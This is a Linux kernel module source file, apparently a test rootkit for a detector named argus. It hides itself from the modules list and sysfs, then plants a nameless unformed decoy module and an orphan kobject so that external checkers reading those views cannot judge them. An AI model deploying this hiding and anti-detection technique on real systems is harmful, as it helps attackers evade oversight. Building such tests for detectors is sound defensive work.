// SPDX-License-Identifier: GPL-2.0
/*
 * hideblind - a test rootkit that hides itself and then tries to blind a
 * reader of the module views from outside, by breaking what the kernel's
 * own walks of them pass over.
 *
 * insmod hideblind.ko
 * unlinks itself from the modules list and deletes its kobject (rkit.h),
 * as hidekmod does; it stays in mod_tree.  Then it plants two decoys:
 *   - a struct module on the modules list in state MODULE_STATE_UNFORMED
 *     whose name is no name ("\x01"): /proc/modules, find_module,
 *     kallsyms and the kernel's other list walks pass over an unformed
 *     module, so the kernel runs on as before;
 *   - a module_kobject on module_kset's list with no name (kset_find_obj
 *     passes over it) whose `mod` is this module, which does not embed it.
 * A reader that takes a view with an entry that is no module as a view
 * it cannot judge says nothing about the module hidden behind it.
 *
 * echo 1 >/proc/hideblind takes the decoys out and links the module back
 * into both lists (not sysfs); it then cannot be unloaded.  For testing
 * only; loaded in a disposable test guest.
 */
#include <linux/proc_fs.h>

#include "rkit.h"

static struct module decoy_mod;
static struct module_kobject decoy_mk;

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	if (!rkit_hidden)
		return len;
	list_del_rcu(&decoy_mod.list);
	spin_lock(&rkit_kset->list_lock);
	list_del(&decoy_mk.kobj.entry);
	spin_unlock(&rkit_kset->list_lock);
	synchronize_rcu();
	rkit_unhide();
	pr_info(KBUILD_MODNAME ": decoys gone, linked back into the modules list and module_kset\n");
	return len;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hideblind_init(void)
{
	if (!proc_create(KBUILD_MODNAME, 0200, NULL, &ctl_ops))
		return -ENOMEM;
	if (rkit_hide()) {
		remove_proc_entry(KBUILD_MODNAME, NULL);
		return -ENOENT;
	}
	decoy_mod.state = MODULE_STATE_UNFORMED;
	decoy_mod.name[0] = 1;
	list_add_tail_rcu(&decoy_mod.list, rkit_modules_head);
	decoy_mk.mod = THIS_MODULE;
	spin_lock(&rkit_kset->list_lock);
	list_add_tail(&decoy_mk.kobj.entry, &rkit_kset->list);
	spin_unlock(&rkit_kset->list_lock);
	pr_info(KBUILD_MODNAME ": module %px hidden; decoy module %px on the list, decoy kobject %px on module_kset\n",
		THIS_MODULE, &decoy_mod, &decoy_mk);
	return 0;
}

module_init(hideblind_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: a hidden module behind decoys in its views");
